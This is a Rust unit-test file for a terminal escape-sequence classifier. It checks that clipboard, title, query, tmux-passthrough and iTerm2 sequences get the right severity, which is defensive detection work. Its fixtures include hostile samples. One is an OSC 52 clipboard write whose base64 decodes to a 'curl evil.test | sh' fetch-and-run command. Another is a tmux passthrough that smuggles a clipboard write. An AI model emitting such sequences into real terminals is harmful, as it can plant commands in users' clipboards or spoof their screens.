//! Classifier unit tests: each attack family maps to the right class,
//! severity and label — this table is what the policy engine trusts.

use seqsafe::classify::{
    classify, classify_control, hyperlink_uri, Class, Severity, Verdict, ALL_CLASSES,
};
use seqsafe::parser::tokenize;

fn verdict(input: &[u8]) -> Verdict {
    let toks = tokenize(input);
    assert_eq!(toks.len(), 1, "expected one token for {input:?}: {toks:?}");
    classify(&toks[0])
}

#[test]
fn sgr_color_is_benign_including_colon_subparams() {
    let vd = verdict(b"\x1b[1;38;5;208m");
    assert_eq!(vd.class, Class::Sgr);
    assert_eq!(vd.severity, Severity::Benign);
    assert_eq!(verdict(b"\x1b[4:3m").class, Class::Sgr);
}

#[test]
fn private_marker_disqualifies_sgr() {
    // `CSI > 4;2 m` is an xterm modifyOtherKeys setting, not styling.
    let vd = verdict(b"\x1b[>4;2m");
    assert_eq!(vd.class, Class::Mode);
    assert_eq!(vd.label, "private-sgr");
}

#[test]
fn osc52_write_and_read_are_critical_clipboard() {
    let vd = verdict(b"\x1b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\x07");
    assert_eq!(vd.class, Class::Clipboard);
    assert_eq!(vd.severity, Severity::Critical);
    assert_eq!(vd.label, "clipboard-write");
    assert_eq!(verdict(b"\x1b]52;c;?\x07").label, "clipboard-read");
}

#[test]
fn title_manipulation_is_high() {
    let vd = verdict(b"\x1b]0;you have been hacked\x07");
    assert_eq!(vd.class, Class::Title);
    assert_eq!(vd.severity, Severity::High);
    assert_eq!(verdict(b"\x1b[22;0t").label, "title-stack");
}

#[test]
fn hyperlink_is_class_hyperlink() {
    let vd = verdict(b"\x1b]8;;https://example.test\x1b\\");
    assert_eq!(vd.class, Class::Hyperlink);
}

#[test]
fn color_query_is_query_not_palette() {
    assert_eq!(verdict(b"\x1b]10;?\x07").class, Class::Query);
    assert_eq!(verdict(b"\x1b]11;#ff0000\x07").class, Class::Palette);
}

#[test]
fn device_queries_and_enq_answerback_are_high_query() {
    for input in [&b"\x1b[c"[..], b"\x1b[6n", b"\x1b[x", b"\x1bZ", b"\x05"] {
        let vd = verdict(input);
        assert_eq!(vd.class, Class::Query, "{input:?}");
        assert_eq!(vd.severity, Severity::High, "{input:?}");
    }
    assert_eq!(verdict(b"\x1b[21t").label, "window-report");
}

#[test]
fn alt_screen_and_mouse_modes_are_labelled() {
    assert_eq!(verdict(b"\x1b[?1049h").label, "alt-screen");
    assert_eq!(verdict(b"\x1b[?1003h").label, "mouse-tracking");
    assert_eq!(verdict(b"\x1b[?2004h").label, "bracketed-paste");
}

#[test]
fn dcs_response_channels_are_critical() {
    assert_eq!(verdict(b"\x1bP$qm\x1b\\").severity, Severity::Critical);
    assert_eq!(verdict(b"\x1bP+q544e\x1b\\").label, "xtgettcap");
    let vd = verdict(b"\x1bPtmux;payload\x1b\\");
    assert_eq!(vd.label, "tmux-passthrough");
    assert_eq!(vd.severity, Severity::Critical);
    // The real-world variant with doubled inner ESCs splits into several
    // tokens in our parser; the leading DCS fragment must classify as
    // malformed so it is stripped no matter what.
    let toks = tokenize(b"\x1bPtmux;\x1b\x1b]52;c;evil\x07\x1b\\");
    assert_eq!(classify(&toks[0]).class, Class::Malformed);
}

#[test]
fn charset_designation_is_high() {
    let vd = verdict(b"\x1b(0");
    assert_eq!(vd.class, Class::Charset);
    assert_eq!(vd.severity, Severity::High);
    assert_eq!(verdict(b"\x0e").class, Class::Charset);
}

#[test]
fn hard_and_soft_reset_are_reset_class() {
    assert_eq!(verdict(b"\x1bc").label, "hard-reset");
    assert_eq!(verdict(b"\x1b[!p").label, "soft-reset");
}

#[test]
fn iterm2_proprietary_osc_is_critical() {
    let vd = verdict(b"\x1b]1337;File=name=eC5zaA==:cGF5bG9hZA==\x07");
    assert_eq!(vd.severity, Severity::Critical);
    assert_eq!(vd.label, "iterm2-proprietary");
}

#[test]
fn unknown_osc_number_is_medium_unknown() {
    let vd = verdict(b"\x1b]666;stuff\x07");
    assert_eq!(vd.class, Class::Unknown);
    assert_eq!(vd.severity, Severity::Medium);
}

#[test]
fn whitespace_controls_are_severity_none() {
    for b in [b'\n', b'\t', b'\r'] {
        assert_eq!(classify_control(b).severity, Severity::Benign);
    }
    assert_eq!(classify_control(0x08).severity, Severity::Medium);
}

#[test]
fn hyperlink_uri_extraction() {
    assert_eq!(
        hyperlink_uri(b"8;;https://example.test/a;b"),
        Some(&b"https://example.test/a;b"[..])
    );
    assert_eq!(
        hyperlink_uri(b"8;id=1;mailto:a@example.test"),
        Some(&b"mailto:a@example.test"[..])
    );
    assert_eq!(hyperlink_uri(b"8;noseparator"), None);
    assert_eq!(hyperlink_uri(b"52;c;x"), None);
}

#[test]
fn class_names_round_trip() {
    for c in ALL_CLASSES {
        assert_eq!(Class::from_name(c.name()), Some(c));
    }
    assert_eq!(Class::from_name("bogus"), None);
}

#[test]
fn severity_ordering_gates_correctly() {
    assert!(Severity::Critical > Severity::High);
    assert!(Severity::High > Severity::Medium);
    assert!(Severity::Medium > Severity::Low);
    assert!(Severity::Low > Severity::Benign);
    assert_eq!(Severity::from_name("any"), Some(Severity::Low));
    assert_eq!(Severity::from_name("nope"), None);
}
